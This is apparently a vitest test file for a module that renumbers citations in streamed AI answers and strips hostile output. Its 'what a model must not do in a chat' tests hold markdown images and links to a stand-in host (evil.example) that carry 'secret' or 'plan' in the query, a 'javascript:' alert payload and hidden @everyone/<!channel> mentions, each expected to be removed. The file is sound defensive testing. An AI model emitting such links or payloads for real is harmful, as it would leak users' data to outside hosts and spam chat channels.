import { describe, expect, test } from "vitest";
import { createCiting } from "../../src/answer/cite.ts";

const PASSAGES = [
  "Revenue was $12 million. See https://intranet.example/plan for more.",
  "The plan starts in May.",
  "Nobody was hurt.",
];

function shown(said: string, sizes: number[] = [1, 3, 7, 1000]): string[] {
  return sizes.map((size) => {
    const citing = createCiting(PASSAGES);
    let text = "";
    for (let at = 0; at < said.length; at += size) text += citing.push(said.slice(at, at + size));
    return text + citing.end();
  });
}

function shownOnce(said: string): string {
  const versions = new Set(shown(said));
  expect([...versions], "however the stream is cut, the text is the same").toHaveLength(1);
  return [...versions][0] ?? "";
}

describe("citations", () => {
  test.each([
    ["a number that was given stays", "In May [2].", "In May [1]."],
    [
      "they count in the order of use",
      "May [2], money [1], May [2].",
      "May [1], money [2], May [1].",
    ],
    ["an invented number is dropped", "In May [97].", "In May."],
    ["zero is no passage", "In May [0].", "In May."],
    ["lists are taken apart", "Both [1, 2; 97].", "Both [1][2]."],
    ["other brackets are known", "In May【3】 and [^1].", "In May[1] and [2]."],
    [
      "code is left alone",
      "Use `list[1]` or\n```\na[0] = b[97]\n```\n[1]",
      "Use `list[1]` or\n```\na[0] = b[97]\n```\n[1]",
    ],
    ["a bracket that nothing closes is a bracket", "An open [ here", "An open [ here"],
  ])("%s", (_name, said, expected) => {
    expect(shownOnce(said)).toBe(expected);
  });

  test("what was used is told in the order of use", () => {
    const citing = createCiting(PASSAGES);
    citing.push("One [3], two [1][3] and [44].");
    citing.end();
    expect(citing.used()).toEqual([2, 0]);
  });
});

describe("what a model must not do in a chat", () => {
  test.each([
    ["an image", "Look ![secret](https://evil.example/?q=plan) here", "Look secret here"],
    ["a link", "Click [the plan](https://evil.example/a) now", "Click the plan now"],
    ["a link that poses as a citation", "Yes [1](https://evil.example) it is", "Yes [1] it is"],
    ["an angle link", "See <https://evil.example/a|click> it", "See click it"],
    ["a bare link", "See https://evil.example/?q=secret now", "See (link removed) now"],
    ["a link without a scheme", "See www.evil.example/x now", "See (link removed) now"],
    ["a link of another scheme", "See javascript://x%0aalert(1) now", "See (link removed)) now"],
    ["a reference", "See\n[x]: https://evil.example/a\nend", "See\n[x]: (link removed)\nend"],
    ["everyone", "Hi @everyone and @here and @CHANNEL", "Hi everyone and here and CHANNEL"],
    ["everyone, hidden", "Hi @\u200beveryone @\u200dhere", "Hi everyone here"],
    ["everyone in code", "`@everyone`", "`everyone`"],
    ["a Slack broadcast", "Hi <!channel> <!subteam^S1|@ops>", "Hi channel @ops"],
    ["a mention in a mention", "Hi <#C1|<!channel>>", "Hi < #C1|channel>"],
    ["a mention around a mention", "Hi <!<!channel>>", "Hi < !channel>"],
    [
      "a link in a link",
      "See [the [plan]](//evil.example/?q=s) now",
      "See [the [plan]] ((link removed)) now",
    ],
    ["a link around a link", "See [[x](a)](//evil.example) now", "See [x] ((link removed)) now"],
    [
      "a link in what only looks like code",
      "\\`[a](https://evil.example)\\`",
      "\\`[a]((link removed))\\`",
    ],
    [
      "a link behind a fence that is none",
      "a ``` b\n[c](https://evil.example) d",
      "a ``` b\n[c]((link removed)) d",
    ],
    [
      "a reference to the page's own scheme",
      "See\n[x]: //evil.example/a",
      "See\n[x]: (link removed)",
    ],
    ["a Slack mention", "Hi <@U123> in <#C1>", "Hi someone in a channel"],
  ])("%s is made harmless", (_name, said, expected) => {
    expect(shownOnce(said)).toBe(expected);
  });

  test("a link that stands in a passage is shown, not to be clicked", () => {
    expect(shownOnce("It is at https://intranet.example/plan [1]")).toBe(
      "It is at `https://intranet.example/plan` [1]",
    );
  });
});

test("text comes out as it comes in, also in scripts without spaces", () => {
  const citing = createCiting(PASSAGES);
  expect(citing.push("Revenue grew ")).toBe("Revenue grew");
  expect(citing.push("收入增长了")).toBe(" 收入增长了");
  expect(citing.push(" by [")).toBe(" by");
  expect(citing.push("1")).toBe("");
  expect(citing.push("] now ")).toBe(" [1] now");
});

test.each([
  ["a link", ["https", "://evil.example/?q=secret done"], /https:\/\/evil/],
  ["a mention", ["@ever", "yone done"], /@everyone/],
  ["a broadcast", ["<", "!channel> done"], /<!channel>/],
])("%s that is cut in two by a very long word is made harmless", (_name, [start, end], live) => {
  const citing = createCiting(PASSAGES);
  const text = citing.push(`${"b.".repeat(200)}${start}`) + citing.push(end ?? "") + citing.end();
  expect(text).toContain("done");
  expect(text).not.toMatch(live);
});

test("an opening that never closes does not hold the answer back for ever", () => {
  const citing = createCiting(PASSAGES);
  const text = citing.push(`[${"word ".repeat(200)}`);
  expect(text.length).toBeGreaterThan(500);
});
